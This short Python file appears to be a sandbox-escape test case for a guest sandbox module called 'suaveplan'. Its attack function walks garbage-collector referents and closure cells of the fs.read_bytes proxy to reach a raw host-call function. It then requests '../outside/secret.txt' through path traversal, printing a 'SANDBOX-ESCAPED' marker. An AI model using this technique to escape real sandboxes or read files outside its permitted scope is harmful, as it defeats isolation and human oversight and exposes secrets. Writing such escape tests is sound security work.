# mypy: ignore-errors
# Technique: `gc.get_referents` of a proxy function's closure to reach the raw host-call
# function below the guest proxies, and ask the host for the secret with a path the guest
# proxy would never build (`../outside/secret.txt`).
import gc

from suaveplan import fs


def attack(secret_path, canary_path):
    for obj in gc.get_referents(fs.read_bytes):
        for inner in gc.get_referents(obj) if isinstance(obj, tuple) else [obj]:
            target = getattr(inner, "cell_contents", None)
            if callable(target) and getattr(target, "__name__", "") == "hc":
                print("SANDBOX-" + "ESCAPED")
                for cell in target.__closure__:
                    raw = cell.cell_contents
                    if callable(raw) and getattr(raw, "__name__", "") == "host_call":
                        return raw("fs", "read_bytes", {"path": "../outside/secret.txt"})
    return None
